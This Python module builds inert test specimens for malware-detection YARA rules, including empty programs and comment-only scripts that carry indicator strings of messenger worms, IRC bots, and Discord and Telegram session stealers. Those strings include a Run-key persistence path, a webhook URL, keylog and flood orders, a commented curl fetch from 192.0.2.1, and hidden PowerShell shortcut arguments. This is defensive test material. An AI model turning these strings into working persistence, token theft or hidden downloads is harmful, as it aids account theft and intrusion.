"""Specimens of the techniques that rules/ knows: words and headers, nothing that would work.

Programs are empty and hold the texts that a rule looks for.  Scripts are comments in their
language, and so are the commands of shortcuts: whoever starts one starts nothing.
"""

from dataclasses import dataclass

from samples.programs import pe, wide
from samples.shortcuts import SHORTCUT, Link, shortcut
from samples.specimen import Specimen

RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"


@dataclass(frozen=True, slots=True)
class Technique:
    name: str
    rule: str
    strings: tuple[str, ...]
    about: str
    wide: bool = False
    """UTF-16, as resources are and the literals of Visual Basic and .NET."""


PROGRAMS = (
    Technique(
        "buddies.exe", "SUSP_Worm_ImClients_Nov26",
        ("MSVBVM60.DLL", "IMWindowClass", "_Oscar_StatusNotify", "YahooBuddyMain", "holiday.pif"),
        "An empty program with the runtime of Visual Basic and the windows of three messengers.",
    ),
    Technique(
        "messages.exe", "SUSP_Worm_VbMessenger_Nov26",
        ("MSVBVM60.DLL", "Messenger.UIAutomation", "MyContacts", "CopyFile", RUN_KEY, "me.scr"),
        "The same with one messenger, and what it takes to stay and to spread.",
    ),
    Technique(
        "drives.exe", "SUSP_Worm_AutorunMessenger_Nov26",
        ("autorun.inf", "[autorun]", "open=game.exe", RUN_KEY, "SkypeControlAPIAttach"),
        "An empty program with the text of an autorun.inf and the interface of Skype.",
        wide=True,
    ),
    Technique(
        "viewer.exe", "SUSP_Dropper_PictureNames_Nov26",
        ("DSC00432.jpg.exe", "CopyFileA", "ShellExecuteA", RUN_KEY),
        "An empty program that names a program like a picture.",
    ),
    Technique(
        "album.exe", "SUSP_Dropper_PictureVersion_Nov26",
        ("OriginalFilename\0holiday.jpg\0",),
        "An empty program whose version text says that it was built as a picture.",
        wide=True,
    ),
    Technique(
        "orders.exe", "SUSP_Bot_IrcCommands_Nov26",
        ("PRIVMSG %s :%s", "JOIN %s", "NICK %s", RUN_KEY, "msn.spread", "udpflood"),
        "An empty program with the words of IRC and orders to spread and to flood.",
    ),
    Technique(
        "support.exe", "SUSP_Backdoor_ImCommands_Nov26",
        ("api.telegram.org/bot", RUN_KEY, "/screenshot", "/keylog", "/passwords"),
        "An empty program with the address of a chat bot and orders to spy.",
    ),
    Technique(
        "collector.exe", "SUSP_Stealer_MessengerData_Nov26",
        (
            r"\discord\Local Storage\leveldb", r"\Telegram Desktop\tdata",
            "https://discord.com/api/webhooks/",
        ),
        "An empty program with the folders of two messengers and the address of a third's hook.",
        wide=True,
    ),
    Technique(
        "unpacks.exe", "SUSP_Dropper_SfxAutorun_Nov26",
        (
            ";The comment below contains SFX script commands", "Silent=1", "Setup=notes.txt",
            r"Path=%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup",
        ),
        "An empty program with the script of a self-extractor; there is nothing to extract.",
    ),
)  # fmt: skip

SCRIPTS = (
    Technique(
        "chat.au3", "SUSP_Worm_AutoItMessenger_Nov26",
        (
            "; inert specimen: a list of words", "; FileCopy @ScriptFullPath", "; RegWrite",
            rf"; HKCU\{RUN_KEY}", '; WinActivate "Yahoo! Messenger"',
        ),
        "An AutoIt script of comments: it copies, starts and types nothing.",
    ),
    Technique(
        "fetch.vbs", "SUSP_Loader_AutoItFetch_Nov26",
        (
            "' inert specimen: a list of words", "' curl http://192.0.2.1/a",
            "' autoit3.exe script.au3", "' -windowstyle hidden",
        ),
        "A VBS of comments that name AutoIt, a script for it and an address of no network.",
    ),
    Technique(
        "spread.ps1", "SUSP_Script_MessengerWeb_Nov26",
        (
            "# inert specimen: a list of words", "# https://web.whatsapp.com/ chromedriver",
            "# taskkill /im chrome.exe", "# --user-data-dir", "# getAllContacts",
            "# DownloadString",
        ),
        "A PowerShell script of comments: it drives no browser.",
    ),
    Technique(
        "sessions.py", "SUSP_Stealer_MessengerScript_Nov26",
        (
            "# inert specimen: a list of words", "# os.getenv",
            r"# \discord\Local Storage\leveldb \Telegram Desktop\tdata",
            "# https://discord.com/api/webhooks/",
        ),
        "A Python script of comments: it reads no folder and sends nothing.",
    ),
    Technique(
        "statement.vbs", "SUSP_Vbs_WhatsAppWave_Nov26",
        (
            "' inert specimen: a list of words",
            "' CreateObject() WScript.Shell MSXML2.XMLHTTP ExecuteGlobal",
            "' msiexec a.msi", "' python.exe a.py",
        ),
        "A VBS of comments that name an installer and Python.",
    ),
)  # fmt: skip

HIDDEN = Link(
    item_path=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    arguments="-WindowStyle Hidden -Command # Invoke-WebRequest",
    show=7,
)
PIECED = Link(
    item_path=r"C:\Windows\System32\cmd.exe",
    arguments="/c rem for %a in (power) %ashell AG4AdgBvAGsAZQAtAEkAbgBlAHIAdAA= "
    "aAB0AHQAcABzADoALwAvAGYAaQBsAGUAcwAuAGkAbgB2AGEAbABpAGQALwA=",
    show=7,
)


def technique_specimens() -> tuple[Specimen, ...]:
    """One specimen a rule, in the order of programs, scripts, shortcuts."""
    return (
        *map(_program, PROGRAMS),
        *map(_script, SCRIPTS),
        _link(
            "receipt.lnk", HIDDEN, "SUSP_Lnk_WhatsAppWave_Nov26",
            "A PowerShell out of sight, all of whose code is a comment.",
        ),
        _link(
            "order.lnk", PIECED, "SUSP_Lnk_PiecedCommand_Nov26",
            "A shell whose command is a remark, with encoded words in it.",
        ),
    )  # fmt: skip


def _program(one: Technique) -> Specimen:
    texts = [wide(text) if one.wide else text.encode() for text in one.strings]
    return Specimen(one.name, pe(texts), expected=("signature.yara", one.rule), about=one.about)


def _script(one: Technique) -> Specimen:
    data = "\r\n".join([*one.strings, ""]).encode()
    return Specimen(one.name, data, expected=("signature.yara", one.rule), about=one.about)


def _link(name: str, link: Link, rule: str, about: str) -> Specimen:
    return Specimen(name, shortcut(link), expected=(*SHORTCUT, "signature.yara", rule), about=about)
